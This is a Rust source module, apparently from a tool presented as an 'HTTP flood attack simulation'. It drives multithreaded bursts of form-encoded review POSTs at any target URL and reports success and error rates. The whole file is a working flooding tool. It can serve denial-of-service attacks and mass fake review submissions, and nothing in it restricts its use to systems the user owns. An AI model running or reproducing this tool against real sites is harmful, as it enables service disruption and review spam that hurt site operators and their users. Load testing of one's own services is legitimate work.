use super::client::{build_client, header_map};
use super::payload::ReviewPayload;
use crate::error::{Result, SimError};
use crate::metrics::{Counters, RunSummary};
use reqwest::blocking::Client;
use std::ops::Range;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

const PROGRESS_EVERY: usize = 50;

/// Shape of a burst flood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FloodPlan {
    pub total_requests: usize,
    pub concurrency: usize,
    pub burst_size: usize,
    pub burst_delay: Duration,
}

impl FloodPlan {
    pub fn new(
        total_requests: usize,
        concurrency: usize,
        burst_size: usize,
        burst_delay: Duration,
    ) -> Result<Self> {
        if concurrency == 0 {
            return Err(SimError::InvalidConfig(
                "concurrency must be greater than zero".to_string(),
            ));
        }
        if burst_size == 0 {
            return Err(SimError::InvalidConfig(
                "burst size must be greater than zero".to_string(),
            ));
        }
        Ok(Self {
            total_requests,
            concurrency,
            burst_size,
            burst_delay,
        })
    }

    /// Request indices of each burst, in order.
    pub fn bursts(&self) -> Vec<Range<usize>> {
        (0..self.total_requests)
            .step_by(self.burst_size)
            .map(|start| start..(start + self.burst_size).min(self.total_requests))
            .collect()
    }
}

/// Headers a flood sends with every form POST.
pub fn flood_client(user_agent: &str, timeout: Duration) -> Result<Client> {
    let headers = header_map(&[
        ("User-Agent", user_agent),
        ("Content-Type", "application/x-www-form-urlencoded"),
        ("Accept", "application/json"),
    ])?;
    build_client(timeout, headers)
}

/// Drives form-encoded review POSTs at a target in bursts.
pub struct HttpFlood {
    url: String,
    client: Client,
    counters: Arc<Counters>,
    completed: AtomicUsize,
}

impl HttpFlood {
    pub fn new(url: &str, client: Client, counters: Arc<Counters>) -> Self {
        Self {
            url: url.to_string(),
            client,
            counters,
            completed: AtomicUsize::new(0),
        }
    }

    fn send_request(&self, index: usize) {
        let payload = ReviewPayload::flood(index);
        match self.client.post(&self.url).form(&payload).send() {
            Ok(resp) if resp.status().as_u16() == 200 => {
                self.counters.record_success("flood");
                println!("Request {}: Success", index);
            }
            Ok(resp) => {
                self.counters.record_failure("flood");
                let status = resp.status().as_u16();
                let text = resp.text().unwrap_or_default();
                println!("Request {}: Failed - {} - {}", index, status, text);
            }
            Err(e) => {
                self.counters.record_failure("flood");
                println!("Request {}: Error - {}", index, e);
            }
        }
    }

    fn mark_completed(&self, total: usize) {
        let completed = self.completed.fetch_add(1, Ordering::SeqCst) + 1;
        if completed % PROGRESS_EVERY == 0 || completed == total {
            println!("Progress: {}/{} requests completed", completed, total);
        }
    }

    /// Run one burst on `concurrency` workers pulling indices from a shared cursor.
    fn run_burst(self: &Arc<Self>, burst: Range<usize>, plan: &FloodPlan) {
        let cursor = Arc::new(AtomicUsize::new(burst.start));
        let workers = plan.concurrency.min(burst.len());
        let total = plan.total_requests;

        let handles: Vec<_> = (0..workers)
            .map(|_| {
                let flood = Arc::clone(self);
                let cursor = Arc::clone(&cursor);
                let end = burst.end;
                thread::spawn(move || loop {
                    let index = cursor.fetch_add(1, Ordering::SeqCst);
                    if index >= end {
                        break;
                    }
                    flood.send_request(index);
                    flood.mark_completed(total);
                })
            })
            .collect();

        for handle in handles {
            if handle.join().is_err() {
                log::error!("Flood worker panicked");
            }
        }
    }

    pub fn run(self: &Arc<Self>, plan: &FloodPlan) -> RunSummary {
        self.counters.reset();
        self.completed.store(0, Ordering::SeqCst);
        let start = Instant::now();

        let bursts = plan.bursts();
        let last = bursts.len().saturating_sub(1);
        for (n, burst) in bursts.into_iter().enumerate() {
            log::info!("Burst {}: requests {}..{}", n + 1, burst.start, burst.end);
            self.run_burst(burst, plan);
            if n < last && !plan.burst_delay.is_zero() {
                thread::sleep(plan.burst_delay);
            }
        }

        RunSummary::new(start.elapsed(), self.counters.snapshot())
    }
}

/// Flood `url` according to `plan` and print the result table.
pub fn http_flood(url: &str, plan: &FloodPlan, client: Client, counters: Arc<Counters>) -> RunSummary {
    let flood = Arc::new(HttpFlood::new(url, client, counters));
    let summary = flood.run(plan);
    print_flood_summary(url, plan, &summary);
    summary
}

fn rate(part: u64, total: usize) -> f64 {
    if total == 0 {
        return 0.0;
    }
    part as f64 / total as f64 * 100.0
}

pub fn print_flood_summary(url: &str, plan: &FloodPlan, summary: &RunSummary) {
    println!("\n----- HTTP Flood Attack Simulation Results -----");
    println!("Target URL: {}", url);
    println!("Total Requests: {}", plan.total_requests);
    println!("Concurrent Connections: {}", plan.concurrency);
    println!("Requests per Burst: {}", plan.burst_size);
    println!("Total Duration: {:.2} seconds", summary.elapsed.as_secs_f64());
    println!("Requests per second: {:.2}", summary.requests_per_second());
    println!("Success rate: {:.2}%", rate(summary.tally.success, plan.total_requests));
    println!("Error rate: {:.2}%", rate(summary.tally.failure, plan.total_requests));
}
